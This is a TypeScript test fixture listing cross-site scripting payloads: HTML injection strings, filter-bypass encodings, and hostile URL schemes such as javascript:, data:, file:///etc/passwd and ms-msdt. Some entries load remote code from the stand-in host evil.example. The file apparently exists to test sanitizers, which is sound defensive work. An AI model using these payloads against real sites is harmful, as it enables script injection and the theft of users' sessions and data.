// Ways that people have tried to run a script from a text, each known to have worked somewhere. For tests.

/** Stand on their own, or wherever text may stand. */
export const HTML_ATTEMPTS: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script
>alert(1)</script
>
</script><script>alert(1)</script>
<<script>alert(1)//<</script>
<script type="module">import('//evil.example')</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src="javascript:alert(1)">
<img/src/onerror=alert(1)>
<img src=x:x onerror&#61;alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<base href="javascript:alert(1)//">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<frameset onload=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<isindex type=image src=1 onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<table background="javascript:alert(1)"><td>x</td></table>
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a onmouseover=alert(1)>x</a>
<b onpointerenter=alert(1)>x</b>
<div contenteditable onblur=alert(1)>x</div>
<x onclick=alert(1) style=display:block>x
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img src="</title><img src=x onerror=alert(1)>">
<textarea></textarea><script>alert(1)</script>
<xmp></xmp><script>alert(1)</script>
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
--><script>alert(1)</script>
]]><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;alert(1)
{{constructor.constructor('alert(1)')()}}
\${alert(1)}
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
<a href="x" id="__proto__">x</a>
<form name=getElementById><input name=body></form>
`
  .trim()
  .split('\n');

/** Stand where an address may stand. */
export const ADDRESS_ATTEMPTS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript://example.org/%0Aalert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  'jav&Tab;ascript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  '&#1;javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'java\0script:alert(1)',
  'javascript\\:alert(1)',
  '%6Aavascript:alert(1)',
  'javascript%3Aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/png;base64,iVBORw0KGgo=',
  'DATA:text/html,x',
  'file:///etc/passwd',
  'blob:https://example.org/x',
  'filesystem:https://example.org/x',
  'view-source:https://example.org',
  'about:blank',
  'intent://x#Intent;scheme=javascript;end',
  'ms-msdt:/id',
  'mhtml:x',
  'jar:javascript:alert(1)!/',
  'feed:javascript:alert(1)',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  '/\t/evil.example',
  '/&#9;/evil.example',
  'http:\\\\evil.example',
  'https:/evil.example',
  'http:evil.example',
  'https://example.org/"onmouseover="alert(1)',
  "https://example.org/'onmouseover='alert(1)",
  'https://example.org/><script>alert(1)</script>',
  'https://example.org/`onmouseover=`alert(1)',
  'https://example.org\u202e/gro.live//:sptth',
  'https://example.org@evil.example/',
  'mailto:x@example.org?body=<script>alert(1)</script>',
  'mailto:"onmouseover="alert(1)',
  ':alert(1)',
  '.',
  '',
];
